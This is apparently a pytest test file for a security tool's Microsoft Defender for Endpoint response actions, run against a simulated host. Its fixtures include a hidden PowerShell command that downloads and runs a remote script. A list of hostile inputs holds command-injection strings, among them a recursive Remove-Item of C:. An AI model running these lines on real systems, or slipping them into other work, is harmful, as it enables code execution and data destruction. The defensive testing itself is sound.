"""Microsoft Defender for Endpoint on a host's objects (``defender_response``): stop-and-quarantine by
SHA-1, and registry values, scheduled tasks, services and processes through live response RunScript of the
library scripts. The fake MDE below runs what the scripts would do on a fake host, reading the ``Args``
string exactly as PowerShell's single-quoted literals would, so a test sees the same host a real run would."""

from __future__ import annotations

import asyncio
import base64
import copy
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
from pydantic import SecretStr, ValidationError

import actions.edr.defender  # noqa: F401 - registers defender_response.* (imported by defender)
from actions import (
    ActionContext,
    ActionStatus,
    CircuitOpen,
    Effect,
    PermanentError,
    RateLimited,
    RetryPolicy,
    TargetNotFound,
    TransientError,
    registry,
    retry_async,
)
from actions.edr.defender_response import LIBRARY
from actions.http import HttpPool
from tests.actions._support import FakeClock, assert_no_secret, read, run, vendor_fixture

API = "https://mde.test"
LOGIN = "https://login.test"
BLOB = "https://garrisonlab.blob.core.windows.net"
AAD_TENANT = "8c3f0d2e-1b4a-4c5d-9e6f-7a8b9c0d1e2f"
TOKEN = "CANARY-issued-token-mde"
SECRETS = {
    "defender_response_client_id": "CANARY-mde-response-client-id-3b3b",
    "defender_response_client_secret": "CANARY-mde-response-client-secret-d4d4",
}
HOST, MACHINE = "windows11", "1234"
SETTINGS = {
    "base_url": API,
    "login_url": LOGIN,
    "tenant_id": AAD_TENANT,
    "verify_timeout": 60,
    "poll_interval": 10,
}
RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
FULL_RUN_KEY = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
TASK_XML = '<?xml version="1.0" encoding="UTF-16"?><Task><Actions><Exec><Command>powershell</Command>'
TASK_XML += "<Arguments>-nop -w hidden -c \"IEX (iwr 'http://js.mykings.top/v.ps1'); x\"</Arguments>"
TASK_XML += "</Exec></Actions></Task>"
SHA1 = "a0c659857ccbe457fdaf5fe21d54efdcbf6f6508"
DELETE_VALUE = "defender_response.delete_registry_value"
RESTORE_VALUE = "defender_response.restore_registry_value"
_ARG = re.compile(r"-([A-Za-z0-9]+) '((?:[^']|'')*)'(?: |$)")


def parse_args(args: str) -> dict[str, str]:
    """The parameters PowerShell binds from an Args string made only of ``-Name 'literal'`` pairs."""
    found, at = {}, 0
    while at < len(args):
        match = _ARG.match(args, at)
        assert match, f"not a -Name 'value' pair at {args[at:]!r}"
        found[match.group(1)] = match.group(2).replace("''", "'")
        at = match.end()
    return found


def declared(script: str) -> set[str]:
    block = LIBRARY[script].split("param(", 1)[1].split("\n)", 1)[0]
    return set(re.findall(r"\]\$(\w+)", block))


def decoded(value: str) -> Any:
    return json.loads(base64.b64decode(value))


@dataclass
class FakeHost:
    """What the library scripts see on the machine."""

    registry: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    tasks: dict[str, dict[str, Any]] = field(default_factory=dict)
    services: dict[str, dict[str, Any]] = field(default_factory=dict)
    processes: dict[int, str] = field(default_factory=dict)
    quarantined: set[str] = field(default_factory=set)

    def execute(self, script: str, args: str) -> dict[str, Any]:
        given = parse_args(args)
        assert set(given) <= declared(script), f"{script} declares no {set(given) - declared(script)}"
        mode = given["Mode"]
        if script == "garrison-reg.ps1":
            where = (given["Key"].lower(), given["Name"].lower())
            current = self.registry.get(where)
            if mode == "read":
                return {"status": "read", "present": current is not None, "value": current}
            if mode == "delete":
                if current is None:
                    return {"status": "unchanged"}
                return {"status": "changed", "value": self.registry.pop(where)}
            wanted = decoded(given["Value64"])
            self.registry[where] = wanted
            return {"status": "unchanged" if current == wanted else "changed"}
        if script == "garrison-task.ps1":
            name = given["Name"].lower()
            task = self.tasks.get(name)
            if mode == "read":
                return {"status": "read", "present": task is not None}
            if mode == "delete":
                return {"status": "changed", **self.tasks.pop(name)} if task else {"status": "unchanged"}
            xml = decoded(given["Xml64"])["xml"]
            self.tasks[name] = {"xml": xml, "enabled": True}
            return {"status": "unchanged" if task and task["xml"] == xml else "changed"}
        if script == "garrison-svc.ps1":
            service = self.services.get(given["Name"].lower())
            if service is None:
                return {"status": "not_found", "reason": f"no service named {given['Name']}"}
            before = dict(service)
            if mode == "read":
                return {"status": "read", **before}
            if mode == "disable":
                if before["start_type"] == "disabled":
                    return {"status": "unchanged"}
                service.update(start_type="disabled", running=False)
                return {"status": "changed", **before}
            service["start_type"] = given["StartType"]
            service["running"] = before["running"] or given["Running"] == "true"
            return {"status": "unchanged" if service == before else "changed"}
        pid = int(given["ProcessId"])
        image = self.processes.get(pid)
        same = image is not None and given.get("Name", image).lower().removesuffix(".exe") == image.lower()
        if mode == "read":
            return {"status": "read", "running": same, "image": image or ""}
        if image is None:
            return {"status": "unchanged"}
        if not same:
            return {
                "status": "refused",
                "reason": f"pid {pid} is {image}, not {given['Name']}: refusing to kill",
            }
        del self.processes[pid]
        return {"status": "changed", "image": image}


class FakeMde:
    def __init__(self, mock: respx.MockRouter, *, machines: int = 1) -> None:
        self.host = FakeHost()
        self.actions: list[dict[str, Any]] = []
        self.polls_until_done = 2
        self.final = "Succeeded"
        self.busy = False  # POSTs answer ActiveRequestAlreadyExists
        self.outputs: dict[str, str] = {}
        token = {**vendor_fixture("defender-token.json"), "access_token": TOKEN}
        self.token = mock.post(f"{LOGIN}/{AAD_TENANT}/oauth2/token", name="token").respond(200, json=token)
        listed = vendor_fixture("defender-machines.json")
        listed["value"] = listed["value"] * machines
        self.machines = mock.get(f"{API}/api/machines", name="machines").respond(200, json=listed)
        self.listing = mock.get(f"{API}/api/machineactions", name="list").mock(side_effect=self._list)
        self.one = mock.get(url__regex=rf"{API}/api/machineactions/[^/?]+$", name="one").mock(
            side_effect=self._one
        )
        self.link = mock.get(
            url__regex=rf"{API}/api/machineactions/[^/]+/GetLiveResponseResultDownloadLink\(index=0\)$",
            name="link",
        ).mock(side_effect=self._link)
        self.blob = mock.get(url__startswith=f"{BLOB}/investigation-actions-data/", name="blob").mock(
            side_effect=self._blob
        )
        self.live = mock.post(f"{API}/api/machines/{MACHINE}/runliveresponse", name="live").mock(
            side_effect=self._live
        )
        self.quarantine = mock.post(
            f"{API}/api/machines/{MACHINE}/StopAndQuarantineFile", name="quarantine"
        ).mock(side_effect=self._quarantine)

    # -- what is on record ------------------------------------------------------------------------------

    def add_live(self, script: str, args: str, status: str = "Pending") -> dict[str, Any]:
        record = copy.deepcopy(vendor_fixture("defender-response-liveresponse-action.json"))
        record["commands"][0]["command"]["params"] = [
            {"key": "ScriptName", "value": script},
            {"key": "Args", "value": args},
        ]
        return self._add(record, status, "Garrison incident inc-1")

    def add_quarantine(
        self, sha1: str, status: str, comment: str = "Garrison incident inc-1"
    ) -> dict[str, Any]:
        record = copy.deepcopy(vendor_fixture("defender-response-stop-and-quarantine.json"))
        record["relatedFileInfo"]["fileIdentifier"] = sha1.upper()
        return self._add(record, status, comment)

    def _add(self, record: dict[str, Any], status: str, comment: str) -> dict[str, Any]:
        n = len(self.actions) + 1
        record.update(
            id=f"action-{n}",
            status=status,
            machineId=MACHINE,
            requestorComment=comment,
            creationDateTimeUtc=f"2025-11-22T02:{n:02d}:00.0000000Z",
            polls=0,
        )
        self.actions.append(record)
        return record

    def posted(self, route: respx.Route) -> Any:
        return json.loads(route.calls.last.request.content)

    # -- the API ----------------------------------------------------------------------------------------

    def _shown(self, record: dict[str, Any]) -> dict[str, Any]:
        return {k: v for k, v in record.items() if k != "polls"}

    def _busy(self) -> httpx.Response | None:
        if self.busy:
            return httpx.Response(400, json=vendor_fixture("defender-active-request-exists.json"))
        return None

    def _live(self, request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        (command,) = body["Commands"]
        params = {p["key"]: p["value"] for p in command["params"]}
        record = self._busy() or self.add_live(params["ScriptName"], params["Args"])
        return record if isinstance(record, httpx.Response) else httpx.Response(200, json=self._shown(record))

    def _quarantine(self, request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        record = self._busy() or self.add_quarantine(body["Sha1"], "Pending", body["Comment"])
        return record if isinstance(record, httpx.Response) else httpx.Response(201, json=self._shown(record))

    def _list(self, request: httpx.Request) -> httpx.Response:
        assert request.url.params["$filter"] == f"machineId eq '{MACHINE}'"
        return httpx.Response(200, json={"value": [self._shown(a) for a in self.actions]})

    def _one(self, request: httpx.Request) -> httpx.Response:
        record = next(a for a in self.actions if a["id"] == request.url.path.rsplit("/", 1)[1])
        record["polls"] += 1
        if record["status"] in ("Pending", "InProgress") and record["polls"] >= self.polls_until_done:
            self._finish(record)
        return httpx.Response(200, json=self._shown(record))

    def _finish(self, record: dict[str, Any]) -> None:
        record["status"] = self.final
        if self.final == "Failed":
            record["commands"] = [vendor_fixture("defender-response-failed-command.json")]
        elif record["type"] == "StopAndQuarantineFile":
            self.host.quarantined.add(record["relatedFileInfo"]["fileIdentifier"].lower())
        else:
            params = {p["key"]: p["value"] for p in record["commands"][0]["command"]["params"]}
            printed = self.host.execute(params["ScriptName"], params["Args"])
            self.outputs[record["id"]] = "GARRISON-RESULT " + json.dumps(printed, separators=(",", ":"))

    def _link(self, request: httpx.Request) -> httpx.Response:
        action_id = request.url.path.split("/")[3]
        link = vendor_fixture("defender-response-result-link.json")
        link["value"] = f"{BLOB}/investigation-actions-data/{action_id}?sig=signed"
        return httpx.Response(200, json=link)

    def _blob(self, request: httpx.Request) -> httpx.Response:
        action_id = request.url.path.rsplit("/", 1)[1]
        transcript = vendor_fixture("defender-response-script-transcript.json")
        transcript["script_output"] = transcript["script_output"] + "\n" + self.outputs[action_id] + "\n"
        return httpx.Response(200, json=transcript)


@pytest.fixture
def mde() -> Any:
    with respx.mock(assert_all_called=False) as mock:
        yield FakeMde(mock)


def ctx(pool: HttpPool, **kwargs: Any) -> ActionContext:
    return ActionContext(
        tenant="acme",
        incident_id="inc-1",
        secrets={name: SecretStr(value) for name, value in SECRETS.items()},
        vendors={"defender_response": SETTINGS},
        http=pool,
        **kwargs,
    )


def live_body(script: str, args: str) -> dict[str, Any]:
    return {
        "Commands": [
            {
                "type": "RunScript",
                "params": [{"key": "ScriptName", "value": script}, {"key": "Args", "value": args}],
            }
        ],
        "Comment": "Garrison incident inc-1",
    }


def sent_args(request: httpx.Request) -> str:
    return str(json.loads(request.content)["Commands"][0]["params"][1]["value"])


def no_secret(*texts: str) -> None:
    assert_no_secret(*texts)
    assert not any(value in text for value in SECRETS.values() for text in texts)


VALUE = {"hostname": HOST, "key": RUN_KEY, "name": "SoftwareUpdate"}
PAYLOAD = {"type": "REG_SZ", "data": r"powershell -nop -w hidden -c IEX(iwr 'http://js.mykings.top/v.ps1')"}


# -- registry values -----------------------------------------------------------------------------------


def test_delete_registry_value_sends_runscript_and_captures_the_value(
    mde: FakeMde, pool: HttpPool, clock: FakeClock, debug_logs: Any
) -> None:
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = dict(PAYLOAD)

    result = run(DELETE_VALUE, VALUE, ctx(pool))

    assert result.status is ActionStatus.SUCCEEDED and result.changed is True
    assert (result.detail, result.vendor_ref) == ("registry value deleted", "action-1")
    assert result.undo == {"hostname": HOST, "key": FULL_RUN_KEY, "name": "SoftwareUpdate", **PAYLOAD}
    assert mde.posted(mde.live) == live_body(
        "garrison-reg.ps1", f"-Mode 'delete' -Key '{FULL_RUN_KEY}' -Name 'SoftwareUpdate'"
    )
    assert mde.live.calls.last.request.headers["authorization"] == f"Bearer {TOKEN}"
    # The signed result link is fetched without our token.
    assert "authorization" not in mde.blob.calls.last.request.headers
    assert mde.host.registry == {} and clock.sleeps == [10]
    no_secret(result.model_dump_json(), debug_logs.text)


def test_a_quote_in_a_name_is_doubled_and_reaches_the_script_intact(mde: FakeMde, pool: HttpPool) -> None:
    mde.host.registry[(FULL_RUN_KEY.lower(), "it's me")] = dict(PAYLOAD)

    result = run(DELETE_VALUE, {**VALUE, "name": "it's me"}, ctx(pool))

    assert result.ok and mde.host.registry == {}
    args = sent_args(mde.live.calls.last.request)
    assert args == f"-Mode 'delete' -Key '{FULL_RUN_KEY}' -Name 'it''s me'"


def test_an_absent_value_is_already_deleted(mde: FakeMde, pool: HttpPool) -> None:
    result = run(DELETE_VALUE, VALUE, ctx(pool))

    assert result.ok and result.changed is False and result.detail == "value was already absent"
    assert result.undo == {}


@pytest.mark.parametrize(
    "captured",
    [
        PAYLOAD,
        {"type": "REG_EXPAND_SZ", "data": r"%APPDATA%\upd.exe"},
        {"type": "REG_MULTI_SZ", "data": ["a;b", "`c`", "$(d)"]},
        {"type": "REG_DWORD", "data": 4294967295},
        {"type": "REG_QWORD", "data": 2**63},
        {"type": "REG_BINARY", "data": base64.b64encode(b"\x00\xffMZ").decode()},
    ],
    ids=["sz", "expand_sz", "multi_sz", "dword", "qword", "binary"],
)
def test_restore_puts_back_what_delete_captured(
    mde: FakeMde, pool: HttpPool, captured: dict[str, Any]
) -> None:
    # Host data is hostile too: it goes back base64-encoded, never as a script argument of its own.
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = dict(captured)
    deleted = run(DELETE_VALUE, VALUE, ctx(pool))

    restored = run(RESTORE_VALUE, deleted.undo, ctx(pool))

    assert restored.ok and restored.changed is True and restored.detail == "registry value restored"
    assert mde.host.registry == {(FULL_RUN_KEY.lower(), "softwareupdate"): captured}
    args = parse_args(sent_args(mde.live.calls.last.request))
    assert decoded(args["Value64"]) == captured
    assert run(RESTORE_VALUE, deleted.undo, ctx(pool)).changed is False


def test_registry_read_state_answers_for_both_directions(mde: FakeMde, pool: HttpPool) -> None:
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = dict(PAYLOAD)
    restore = {**VALUE, **PAYLOAD}

    before = (read(DELETE_VALUE, VALUE, ctx(pool)), read(RESTORE_VALUE, restore, ctx(pool)))
    run(DELETE_VALUE, VALUE, ctx(pool))
    after = (read(DELETE_VALUE, VALUE, ctx(pool)), read(RESTORE_VALUE, restore, ctx(pool)))

    assert [s.effect for s in before] == [Effect.ABSENT, Effect.APPLIED]
    assert [s.effect for s in after] == [Effect.APPLIED, Effect.ABSENT]
    assert after[0].detail == "value is absent" and after[0].observed == {"present": False}
    modes = [parse_args(sent_args(call.request))["Mode"] for call in mde.live.calls]
    assert modes == ["read", "read", "delete", "read", "read"]


def test_read_state_is_in_progress_while_our_change_is_queued(mde: FakeMde, pool: HttpPool) -> None:
    mde.polls_until_done = 10_000  # the machine is offline: live response queues
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = dict(PAYLOAD)

    result = run(DELETE_VALUE, VALUE, ctx(pool))
    state = read(DELETE_VALUE, VALUE, ctx(pool))

    assert result.status is ActionStatus.PENDING and result.vendor_ref == "action-1"
    assert state.effect is Effect.IN_PROGRESS and state.vendor_ref == "action-1"
    assert mde.live.call_count == 1  # no read script queued behind it


# -- scheduled tasks -----------------------------------------------------------------------------------


def test_delete_scheduled_task_captures_its_xml_and_restore_registers_it_again(
    mde: FakeMde, pool: HttpPool
) -> None:
    mde.host.tasks[r"\microsoft\updater"] = {"xml": TASK_XML, "enabled": True}
    task = {"hostname": HOST, "name": r"Microsoft\Updater"}

    deleted = run("defender_response.delete_scheduled_task", task, ctx(pool))
    body = mde.posted(mde.live)
    state = read("defender_response.delete_scheduled_task", task, ctx(pool))
    restored = run("defender_response.restore_scheduled_task", deleted.undo, ctx(pool))

    assert body == live_body("garrison-task.ps1", r"-Mode 'delete' -Name '\Microsoft\Updater'")
    assert deleted.ok and deleted.undo == {"hostname": HOST, "name": r"\Microsoft\Updater", "xml": TASK_XML}
    assert state.effect is Effect.APPLIED
    assert restored.ok and restored.changed is True
    assert mde.host.tasks == {r"\microsoft\updater": {"xml": TASK_XML, "enabled": True}}
    assert read("defender_response.restore_scheduled_task", deleted.undo, ctx(pool)).applied


def test_an_absent_task_is_already_deleted(mde: FakeMde, pool: HttpPool) -> None:
    result = run("defender_response.delete_scheduled_task", {"hostname": HOST, "name": r"\X"}, ctx(pool))

    assert result.ok and result.changed is False and result.detail == "task was already absent"


# -- services ------------------------------------------------------------------------------------------


def test_disable_service_captures_the_start_type_and_enable_gives_it_back(
    mde: FakeMde, pool: HttpPool
) -> None:
    mde.host.services["softwareupdate"] = {"start_type": "manual", "running": True}
    service = {"hostname": HOST, "name": "SoftwareUpdate"}

    disabled = run("defender_response.disable_service", service, ctx(pool))
    body = mde.posted(mde.live)
    state = read("defender_response.disable_service", service, ctx(pool))
    enabled = run("defender_response.enable_service", disabled.undo, ctx(pool))

    assert body == live_body("garrison-svc.ps1", "-Mode 'disable' -Name 'SoftwareUpdate'")
    assert disabled.undo == {
        "hostname": HOST,
        "name": "SoftwareUpdate",
        "start_type": "manual",
        "running": True,
    }
    assert state.effect is Effect.APPLIED and state.observed == {"start": "disabled", "running": False}
    assert enabled.ok and enabled.changed is True
    assert mde.posted(mde.live) == live_body(
        "garrison-svc.ps1", "-Mode 'enable' -Name 'SoftwareUpdate' -StartType 'manual' -Running 'true'"
    )
    assert mde.host.services["softwareupdate"] == {"start_type": "manual", "running": True}
    assert read("defender_response.enable_service", disabled.undo, ctx(pool)).applied


def test_a_disabled_service_is_already_done_and_a_missing_one_is_not_found(
    mde: FakeMde, pool: HttpPool
) -> None:
    mde.host.services["softwareupdate"] = {"start_type": "disabled", "running": False}

    already = run(
        "defender_response.disable_service", {"hostname": HOST, "name": "SoftwareUpdate"}, ctx(pool)
    )
    with pytest.raises(TargetNotFound, match="no service named Nope"):
        run("defender_response.disable_service", {"hostname": HOST, "name": "Nope"}, ctx(pool))

    assert already.ok and already.changed is False and already.undo == {}


# -- processes -----------------------------------------------------------------------------------------


def test_kill_process_sends_the_pid_and_image_and_has_no_inverse(mde: FakeMde, pool: HttpPool) -> None:
    mde.host.processes[4242] = "upd"
    target = {"hostname": HOST, "pid": 4242, "name": "upd.exe"}

    killed = run("defender_response.kill_process", target, ctx(pool))
    again = run("defender_response.kill_process", target, ctx(pool))

    assert killed.ok and killed.changed is True and killed.detail == "process killed"
    assert mde.posted(mde.live) == live_body(
        "garrison-proc.ps1", "-Mode 'kill' -ProcessId '4242' -Name 'upd.exe'"
    )
    assert again.ok and again.changed is False and mde.host.processes == {}
    assert read("defender_response.kill_process", target, ctx(pool)).applied
    assert registry.get("defender_response.kill_process").inverse is None


def test_a_reused_pid_is_refused(mde: FakeMde, pool: HttpPool) -> None:
    mde.host.processes[4242] = "svchost"

    with pytest.raises(PermanentError, match="pid 4242 is svchost, not upd.exe: refusing to kill"):
        run("defender_response.kill_process", {"hostname": HOST, "pid": 4242, "name": "upd.exe"}, ctx(pool))

    assert mde.host.processes == {4242: "svchost"}


# -- files ---------------------------------------------------------------------------------------------

FILE = {"hostname": HOST, "path": r"C:\Users\Public\upd.exe", "sha1": SHA1.upper()}


def test_quarantine_file_posts_stop_and_quarantine_with_the_sha1(mde: FakeMde, pool: HttpPool) -> None:
    result = run("defender_response.quarantine_file", FILE, ctx(pool))

    assert result.ok and result.changed is True and result.detail == "file stopped and quarantined"
    assert mde.posted(mde.quarantine) == {"Comment": "Garrison incident inc-1", "Sha1": SHA1}
    assert mde.host.quarantined == {SHA1} and not mde.live.called
    assert read("defender_response.quarantine_file", FILE, ctx(pool)).applied


def test_quarantine_already_done_for_this_incident_sends_nothing(mde: FakeMde, pool: HttpPool) -> None:
    mde.add_quarantine(SHA1, "Succeeded")
    mde.add_quarantine(SHA1, "Succeeded", comment="an old incident")

    result = run("defender_response.quarantine_file", FILE, ctx(pool))

    assert result.ok and result.changed is False and result.vendor_ref == "action-1"
    assert not mde.quarantine.called


def test_quarantine_without_a_sha1_is_refused_before_any_call(mde: FakeMde, pool: HttpPool) -> None:
    target = {"hostname": HOST, "path": r"C:\Users\Public\upd.exe"}

    with pytest.raises(PermanentError, match="needs the file's SHA-1"):
        run("defender_response.quarantine_file", target, ctx(pool))

    assert not mde.token.called and not mde.quarantine.called
    assert registry.get("defender_response.quarantine_file").inverse is None


def test_quarantine_read_state_before_and_while_running(mde: FakeMde, pool: HttpPool) -> None:
    absent = read("defender_response.quarantine_file", FILE, ctx(pool))
    mde.add_quarantine(SHA1, "InProgress")
    running = read("defender_response.quarantine_file", FILE, ctx(pool))

    assert absent.effect is Effect.ABSENT and running.effect is Effect.IN_PROGRESS


# -- machine actions: failure, pending, busy ------------------------------------------------------------


def test_a_failed_live_response_is_a_failed_result_with_mdes_reason(mde: FakeMde, pool: HttpPool) -> None:
    mde.final = "Failed"

    result = run(DELETE_VALUE, VALUE, ctx(pool))

    assert result.status is ActionStatus.FAILED
    assert result.detail == "live response Failed: Script file not found in library: garrison-reg.ps1"


def test_a_cancelled_quarantine_is_failed(mde: FakeMde, pool: HttpPool) -> None:
    mde.final = "Cancelled"

    result = run("defender_response.quarantine_file", FILE, ctx(pool))

    assert result.status is ActionStatus.FAILED and result.detail.startswith("stop-and-quarantine Cancelled")


def test_polling_is_bounded_and_reports_pending(mde: FakeMde, pool: HttpPool, clock: FakeClock) -> None:
    mde.polls_until_done = 10_000

    result = run("defender_response.quarantine_file", FILE, ctx(pool))

    assert result.status is ActionStatus.PENDING and result.vendor_ref == "action-1"
    assert 60 <= sum(clock.sleeps) <= 70


def test_our_change_already_running_is_followed_not_sent_again(mde: FakeMde, pool: HttpPool) -> None:
    mde.host.processes[4242] = "upd"
    mde.add_live("garrison-proc.ps1", "-Mode 'kill' -ProcessId '4242'", status="InProgress")

    result = run("defender_response.kill_process", {"hostname": HOST, "pid": 4242}, ctx(pool))

    assert result.ok and result.vendor_ref == "action-1" and not mde.live.called


def test_another_action_holding_the_machine_is_transient(mde: FakeMde, pool: HttpPool) -> None:
    mde.busy = True
    mde.add_live("minidump.ps1", "OfficeClickToRun", status="InProgress")

    with pytest.raises(TransientError, match=r"another machine action is in progress \(LiveResponse\)"):
        run(DELETE_VALUE, VALUE, ctx(pool))


@pytest.mark.parametrize("machines", [0, 2])
@pytest.mark.parametrize(
    ("key", "inputs"),
    [
        (DELETE_VALUE, VALUE),
        ("defender_response.delete_scheduled_task", {"hostname": HOST, "name": r"\Updater"}),
        ("defender_response.disable_service", {"hostname": HOST, "name": "SoftwareUpdate"}),
        ("defender_response.kill_process", {"hostname": HOST, "pid": 4242}),
        ("defender_response.quarantine_file", FILE),
    ],
)
def test_no_single_machine_is_target_not_found_and_no_action(
    pool: HttpPool, machines: int, key: str, inputs: dict[str, Any]
) -> None:
    with respx.mock(assert_all_called=False) as mock:
        fake = FakeMde(mock, machines=machines)
        with pytest.raises(TargetNotFound, match="named 'windows11' in Microsoft Defender for Endpoint"):
            run(key, inputs, ctx(pool))

    assert not fake.live.called and not fake.quarantine.called


# -- HTTP policy and secrets -----------------------------------------------------------------------------


def test_a_429_holds_the_retry_for_retry_after_then_succeeds(
    mde: FakeMde, pool: HttpPool, clock: FakeClock
) -> None:
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = dict(PAYLOAD)
    answers = iter([httpx.Response(429, headers={"Retry-After": "7"})])
    mde.live.mock(side_effect=lambda request: next(answers, None) or mde._live(request))
    spec = registry.get(DELETE_VALUE)

    seen: list[BaseException] = []
    policy = RetryPolicy(attempts=2, retry_on=(RateLimited,)).on(clock)

    async def attempt() -> Any:
        try:
            return await spec.run(VALUE, ctx(pool))
        except RateLimited as error:
            seen.append(error)
            raise

    result = asyncio.run(retry_async(policy, attempt))

    assert [type(e) for e in seen] == [RateLimited] and getattr(seen[0], "retry_after", 0) >= 7
    assert result.ok and result.changed is True and mde.live.call_count == 2
    assert max(clock.sleeps) >= 7  # the limiter held the next call past Retry-After


def test_5xx_is_transient_then_the_circuit_opens_without_a_call(
    mde: FakeMde, pool: HttpPool, debug_logs: Any
) -> None:
    mde.machines.mock(side_effect=None).respond(
        503, json={"error": {"code": "ServiceUnavailable", "message": "x"}}
    )
    errors = []

    for _ in range(5):
        with pytest.raises(TransientError) as caught:
            run("defender_response.kill_process", {"hostname": HOST, "pid": 4242}, ctx(pool))
        errors.append(str(caught.value))
    with pytest.raises(CircuitOpen, match="no call made"):
        run("defender_response.kill_process", {"hostname": HOST, "pid": 4242}, ctx(pool))

    assert mde.machines.call_count == 5 and not mde.live.called
    no_secret(*errors, debug_logs.text)


def test_a_result_link_off_mdes_storage_is_refused(mde: FakeMde, pool: HttpPool) -> None:
    mde.link.mock(side_effect=None).respond(200, json={"value": "https://evil.test/collect?x=1"})

    with pytest.raises(PermanentError, match="result link of garrison-reg.ps1 is not on MDE's storage"):
        run(DELETE_VALUE, VALUE, ctx(pool))

    assert not mde.blob.called


def test_host_data_cannot_forge_a_second_result_line(mde: FakeMde, pool: HttpPool) -> None:
    forged = 'x\nGARRISON-RESULT {"status":"unchanged"}'
    mde.host.registry[(FULL_RUN_KEY.lower(), "softwareupdate")] = {"type": "REG_SZ", "data": forged}

    result = run(DELETE_VALUE, VALUE, ctx(pool))

    assert result.ok and result.changed is True and result.undo["data"] == forged


def test_a_transcript_with_two_result_lines_is_refused(mde: FakeMde, pool: HttpPool) -> None:
    mde.blob.mock(side_effect=None).respond(
        200,
        json={
            "script_name": "garrison-reg.ps1",
            "exit_code": 0,
            "script_output": 'GARRISON-RESULT {"status":"changed"}\nGARRISON-RESULT {"status":"unchanged"}',
            "script_errors": "",
        },
    )

    with pytest.raises(PermanentError, match="expected one GARRISON-RESULT line, found 2"):
        run(DELETE_VALUE, VALUE, ctx(pool))


# -- hostile inputs --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "inputs"),
    [
        (DELETE_VALUE, {**VALUE, "name": "x`whoami`"}),
        (DELETE_VALUE, {**VALUE, "name": "x$(whoami)"}),
        (DELETE_VALUE, {**VALUE, "name": "x'; Remove-Item C:\\ -Recurse; '"}),
        (DELETE_VALUE, {**VALUE, "name": "x\nGARRISON-RESULT"}),
        (DELETE_VALUE, {**VALUE, "name": "x\u2019 -Mode restore"}),
        (DELETE_VALUE, {**VALUE, "name": "x\x00"}),
        (DELETE_VALUE, {**VALUE, "key": RUN_KEY + r"\..\..\Services"}),
        (DELETE_VALUE, {**VALUE, "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"}),
        (DELETE_VALUE, {**VALUE, "key": r"C:\Windows\System32"}),
        (DELETE_VALUE, {**VALUE, "key": r"HKLM\SOFTWARE\*"}),
        (DELETE_VALUE, {**VALUE, "hostname": "windows11' or computerDnsName ne '"}),
        (RESTORE_VALUE, {**VALUE, "type": "REG_DWORD", "data": "1; calc"}),
        (RESTORE_VALUE, {**VALUE, "type": "REG_DWORD", "data": 2**32}),
        ("defender_response.delete_scheduled_task", {"hostname": HOST, "name": r"\Microsoft\*"}),
        ("defender_response.delete_scheduled_task", {"hostname": HOST, "name": r"\..\Windows"}),
        ("defender_response.delete_scheduled_task", {"hostname": HOST, "name": "\\Up\rdater"}),
        ("defender_response.disable_service", {"hostname": HOST, "name": "svc'(whoami)"}),
        ("defender_response.disable_service", {"hostname": HOST, "name": "svc*"}),
        ("defender_response.enable_service", {"hostname": HOST, "name": "svc", "start_type": "boot"}),
        ("defender_response.kill_process", {"hostname": HOST, "pid": 4}),
        ("defender_response.kill_process", {"hostname": HOST, "pid": 4242, "name": r"C:\x\upd.exe"}),
        ("defender_response.kill_process", {"hostname": HOST, "pid": 4242, "name": "upd.exe;calc"}),
        ("defender_response.quarantine_file", {**FILE, "sha1": "z" * 40}),
        ("defender_response.quarantine_file", {**FILE, "path": r"C:\Users\..\Windows\x.exe"}),
        ("defender_response.quarantine_file", {**FILE, "command": "extra"}),
    ],
)
def test_hostile_inputs_are_refused_before_any_call(
    mde: FakeMde, pool: HttpPool, key: str, inputs: dict[str, Any]
) -> None:
    with pytest.raises(ValidationError):
        run(key, inputs, ctx(pool))

    assert not mde.token.called and not mde.machines.called and not mde.live.called


def test_every_action_declares_its_contract() -> None:
    keys = [k for k in registry.keys() if k.startswith("defender_response.")]
    inverses = {k: registry.get(k).inverse for k in keys}

    assert inverses == {
        DELETE_VALUE: RESTORE_VALUE,
        "defender_response.delete_scheduled_task": "defender_response.restore_scheduled_task",
        "defender_response.disable_service": "defender_response.enable_service",
        "defender_response.enable_service": "defender_response.disable_service",
        "defender_response.kill_process": None,
        "defender_response.quarantine_file": None,
        RESTORE_VALUE: DELETE_VALUE,
        "defender_response.restore_scheduled_task": "defender_response.delete_scheduled_task",
    }
    for key in keys:
        spec = registry.get(key)
        assert spec.secrets == tuple(SECRETS) and spec.can_read_state and spec.idempotent and spec.doc_url
    assert {k: v for k, v in registry.problems().items() if k.startswith("defender_response.")} == {}
    assert registry.vendor_problems("defender_response", {"tenant_id": AAD_TENANT}, set(SECRETS)) == []


def test_the_library_scripts_are_written_for_upload(tmp_path: Path) -> None:
    written = registry.write_scripts("defender_response", tmp_path)

    assert sorted(p.name for p in written) == sorted(LIBRARY)
    for path in written:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
        assert raw.decode("utf-8-sig").replace("\r\n", "\n") == LIBRARY[path.name]
        assert "Write-Result" in LIBRARY[path.name] and "exit 1" in LIBRARY[path.name]
